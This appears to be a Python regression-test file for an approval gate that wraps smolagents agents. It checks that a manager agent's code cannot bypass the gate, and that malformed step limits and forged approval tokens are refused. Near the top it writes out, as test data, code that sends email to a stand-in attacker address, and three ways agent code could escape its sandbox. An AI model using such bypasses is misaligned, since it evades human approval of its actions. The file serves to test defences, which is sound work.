"""Review round 20 of the smolagents adapter: what a CodeAgent manager's code can reach through
the managed agents it is handed, a resume's `max_steps`, and a grant the keyring did not make.
Each test reproduced a defect before its fix; effects are counted at the receiver (the shop's
recorder)."""

from __future__ import annotations

from pathlib import Path

import pytest
from smolagents import CodeAgent
from smolagents.local_python_executor import LocalPythonExecutor
from smolagents.monitoring import LogLevel

from effectgate.errors import TokenError
from effectgate.testing import Script, call, say
from effectgate_smolagents import Approve, AwaitingApproval, Finished, GatedAgent
from effectgate_smolagents.testing import ScriptedCodeModel, ScriptedModel
from tests.conformance.adapters import REFUND, ShopGate, grant

from ._harness import support_agent
from .test_managed import IDENTITY, agent, support_tools

ADA = {"session_id": "s-ada", "user_id": "u1"}

#: real Python that sends an email through the shop's row function, past the gate
BEHIND = (
    "import gc\\nfrom effectgate import EffectGate\\n"
    "for o in gc.get_objects():\\n"
    "    if isinstance(o, EffectGate):\\n"
    "        o.table.get('send_email').fn(to=['x@evil.example'], subject='s', body='b')\\n"
    "        break\\n"
)

#: manager code reaching through the member it is handed
THROUGH_THE_MEMBER = {
    # a member's GatedTool is a smolagents Tool: its class's `from_code` execs any Python
    "tool_class_from_code": f'type(payments.tools["refund_order"]).mro()[1].from_code("{BEHIND}")',
    # the member's own interpreter, its import list set to anything
    "member_executor": (
        'setattr(payments.python_executor, "authorized_imports", ["*"])\n'
        'payments.python_executor.send_tools({"isinstance": isinstance})\n'
        f'payments.python_executor("{BEHIND}")'
    ),
    # a member's GatedTool writes files with `save`
    "tool_save": 'payments.tools["refund_order"].save("saved_by_model_code")',
}


def _team(shop_gate: ShopGate, code: str, member_script: Script | None = None) -> GatedAgent:
    member = GatedAgent(
        agent("code", support_tools(shop_gate, "refund_order"), member_script or Script([]), name="payments"),
        shop_gate.gate,
        agent_id="support",
    )
    model = ScriptedCodeModel([code, 'final_answer("done")'])
    manager = CodeAgent(
        tools=[], model=model, managed_agents=[member.agent], verbosity_level=LogLevel.OFF, max_steps=3
    )
    return GatedAgent(manager, shop_gate.gate, agent_id="support")


@pytest.mark.parametrize("code", list(THROUGH_THE_MEMBER.values()), ids=list(THROUGH_THE_MEMBER))
def test_manager_code_reaches_nothing_of_a_member_but_its_call(
    shop_gate: ShopGate, code: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A CodeAgent manager's code was handed each managed agent itself: its `tools` (real
    GatedTools, whose class is smolagents' `Tool` with `from_code`, an `exec` of any Python, and
    `save`), its executor, its model. Through them it sent an email with no approval and no
    record. The code is now handed a function that only calls the member: nothing else is
    reachable, nothing is sent or written, and the run goes on to the model's next step."""
    monkeypatch.chdir(tmp_path)
    manager = _team(shop_gate, code)
    out = manager.run("Email someone", **IDENTITY)
    assert isinstance(out, Finished)
    assert shop_gate.shop.receiver.count("email") == 0
    assert shop_gate.store.executions() == []
    assert not (tmp_path / "saved_by_model_code").exists()


def test_manager_code_still_calls_the_member_through_the_gate(shop_gate: ShopGate) -> None:
    """What the manager's code may do with a member, call it, still works: its refund pauses
    the manager's run, and nothing is refunded before an approval."""
    member_script = Script([call("refund_order", order_id="1042", amount=12000, currency="GBP")])
    manager = _team(shop_gate, 'payments(task="Refund 12000 GBP on order 1042")', member_script)
    out = manager.run("Refund order 1042", **IDENTITY)
    assert isinstance(out, AwaitingApproval)
    assert [p.card.tool for p in out.pending] == ["refund_order"]
    assert shop_gate.shop.receiver.count("refund") == 0


@pytest.mark.parametrize("max_steps", ["3", -1], ids=["text", "negative"])
def test_a_resume_with_a_bad_max_steps_is_refused_before_the_approved_call_runs(
    shop_gate: ShopGate, max_steps: object
) -> None:
    """`resume(..., max_steps="3")` applied the decisions (the refund ran) and then raised a raw
    TypeError from smolagents' step loop (-1: UnboundLocalError): the caller saw a failed resume
    whose refund had run.
    A bad `max_steps` is refused (TypeError or ValueError) before anything is decided, the refund
    still waits, and the same resume with a good value runs it once."""
    script = Script([call("refund_order", **REFUND), say("Refunded.")])
    gated = support_agent(shop_gate.gate, ScriptedModel(script))
    out = gated.run("Refund order 1042", origin_message_id="m1", **ADA)
    assert isinstance(out, AwaitingApproval)
    [paused] = out.paused
    decisions = {paused.approval_id: Approve(grant(shop_gate.gate, paused))}

    with pytest.raises((TypeError, ValueError)):
        gated.resume(out, decisions, max_steps=max_steps)  # type: ignore[arg-type]
    assert shop_gate.shop.receiver.count("refund") == 0
    assert [a.status for a in shop_gate.store.approvals()] == ["approved"]

    done = gated.resume(out, decisions)
    assert isinstance(done, Finished)
    assert shop_gate.shop.receiver.count("refund") == 1


@pytest.mark.parametrize("max_steps", ["3", -1], ids=["text", "negative"])
def test_a_run_with_a_bad_max_steps_asks_the_model_nothing(shop_gate: ShopGate, max_steps: object) -> None:
    model = ScriptedModel(Script([call("refund_order", **REFUND)]))
    gated = support_agent(shop_gate.gate, model)
    with pytest.raises((TypeError, ValueError)):
        gated.run("Refund order 1042", origin_message_id="m1", max_steps=max_steps, **ADA)  # type: ignore[arg-type]
    assert shop_gate.store.approvals() == []


def _forged(token: str) -> str:
    """`token` with its signature changed: still a token in form, not one the keyring made."""
    head, _, mac = token.rpartition(".")
    return f"{head}.{'A' if mac[0] != 'A' else 'B'}{mac[1:]}"


def test_a_grant_that_does_not_verify_is_refused_before_anything_and_not_told_as_a_denial(
    shop_gate: ShopGate,
) -> None:
    """A run paused on a refund; finance approved it. The resume was given a token in the right
    form for that approval and version whose signature is not the keyring's (corrupted in
    transit, or made elsewhere). `resume` applied it: the gate refused it as forged, and the model
    was told the refund "did not run: denied ... Do not call it again", and the run finished, while
    the approval stands approved with its real grant unused. A grant that does not verify is now
    refused before anything is applied (`TokenError`), nothing is told to the model, and the
    resume with the real grant refunds once."""
    script = Script([call("refund_order", **REFUND), say("Refunded.")])
    model = ScriptedModel(script)
    gated = support_agent(shop_gate.gate, model)
    out = gated.run("Refund order 1042", origin_message_id="m1", **ADA)
    assert isinstance(out, AwaitingApproval)
    [paused] = out.paused
    token = grant(shop_gate.gate, paused)

    with pytest.raises(TokenError) as raised:
        gated.resume(out, {paused.approval_id: Approve(_forged(token))})
    assert raised.value.reason == "forged"
    assert shop_gate.shop.receiver.count("refund") == 0
    assert [a.status for a in shop_gate.store.approvals()] == ["approved"]
    assert len(script.seen) == 1  # the model was not asked again

    done = gated.resume(out, {paused.approval_id: Approve(token)})
    assert isinstance(done, Finished)
    assert shop_gate.shop.receiver.count("refund") == 1


def test_an_executor_put_in_after_wrapping_is_handed_only_the_members_call(shop_gate: ShopGate) -> None:
    """The manager's executor replaced after wrapping (a fresh `LocalPythonExecutor`): its run
    hands the code the member's call only, as the executor it was wrapped with did."""
    manager = _team(shop_gate, THROUGH_THE_MEMBER["tool_class_from_code"])
    manager.agent.python_executor = LocalPythonExecutor(additional_authorized_imports=[])
    out = manager.run("Email someone", **IDENTITY)
    assert isinstance(out, Finished)
    assert shop_gate.shop.receiver.count("email") == 0
